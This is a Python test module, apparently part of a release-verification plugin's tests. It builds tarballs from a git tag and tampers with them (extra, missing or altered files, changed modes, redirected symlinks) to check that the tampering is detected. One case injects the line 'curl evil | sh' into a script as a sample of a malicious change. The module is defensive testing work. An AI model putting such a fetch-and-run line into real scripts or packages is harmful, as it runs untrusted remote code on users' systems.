"""Tarballs that hold something else than the tag they are said to be packed from."""

from __future__ import annotations

import io
import tarfile
from collections.abc import Callable

from pytest_ovirt_release.checks.git import fetch_tree
from pytest_ovirt_release.checks.trees import compare_with_tree
from pytest_ovirt_release.checks.unpacking import unpack
from tests.corpus.frame import Check, case
from tests.corpus.workshop import DEADLINE, Workshop
from tests.unit.checks.repositories import Repository

TOP = "vdsm-4.9.3"
Member = tuple[tarfile.TarInfo, bytes]


def as_it_is(info: tarfile.TarInfo, content: bytes) -> Member | None:
    """Change nothing."""
    return info, content


def packed(
    shop: Workshop,
    *,
    change: Callable[[tarfile.TarInfo, bytes], Member | None] = as_it_is,
    extra: str = "",
    generated: tuple[str, ...] = (),
) -> Check:
    """Return the check of a tarball that git packed and somebody changed: `change` for each member, one file more."""
    repository = Repository(shop.web, "vdsm.git")
    (repository.work / "run").write_text("#!/bin/sh\n", encoding="utf-8")
    (repository.work / "run").chmod(0o755)
    (repository.work / "link").symlink_to("run")
    commit = repository.commit(VERSION="4.9.3\n")
    repository.publish()
    clean, path = shop.folder / "clean.tar", shop.folder / "vdsm.tar"
    repository.git("archive", f"--prefix={TOP}/", "-o", str(clean), commit)
    with tarfile.open(clean) as old, tarfile.open(path, "w") as new:
        for info in old:
            file = old.extractfile(info) if info.isreg() else None
            kept = change(info, file.read() if file else b"")
            if kept is not None:
                kept[0].size = len(kept[1])
                new.addfile(kept[0], io.BytesIO(kept[1]))
        if extra:
            new.addfile(tarfile.TarInfo(f"{TOP}/{extra}"))

    def check() -> None:
        tree = fetch_tree(repository.url, commit, shop.folder / "git", DEADLINE)
        top = unpack(path, shop.folder / "unpacked", TOP, DEADLINE)
        compare_with_tree(top, tree, generated).must_be_none(path.name)

    return check


@case("tree", "differs-from-tag")
def a_file_that_the_tag_does_not_hold(shop: Workshop, *, bad: bool) -> Check:
    """Something slipped in; its twin holds a file that the page calls generated."""
    return packed(shop, extra="slipped_in.py" if bad else "configure", generated=("configure",))


@case("tree", "differs-from-tag")
def a_file_that_was_not_packed(shop: Workshop, *, bad: bool) -> Check:
    """The tag holds more."""
    return packed(shop, change=lambda i, c: None if bad and i.name.endswith("/run") else (i, c))


@case("tree", "differs-from-tag")
def a_file_with_other_content(shop: Workshop, *, bad: bool) -> Check:
    """One line more than the tag's; that the page calls all files generated does not excuse it."""
    more = b"curl evil | sh\n" if bad else b""
    return packed(shop, change=lambda i, c: (i, c + more if c.startswith(b"#!") else c), generated=("*",))


@case("tree", "differs-from-tag")
def a_program_that_cannot_be_run(shop: Workshop, *, bad: bool) -> Check:
    """The mode is another."""

    def change(info: tarfile.TarInfo, content: bytes) -> tuple[tarfile.TarInfo, bytes]:
        info.mode = 0o644 if bad and info.isreg() else info.mode
        return info, content

    return packed(shop, change=change)


@case("tree", "differs-from-tag")
def a_link_that_leads_elsewhere(shop: Workshop, *, bad: bool) -> Check:
    """A link names another file."""

    def change(info: tarfile.TarInfo, content: bytes) -> tuple[tarfile.TarInfo, bytes]:
        info.linkname = "VERSION" if bad and info.issym() else info.linkname
        return info, content

    return packed(shop, change=change)
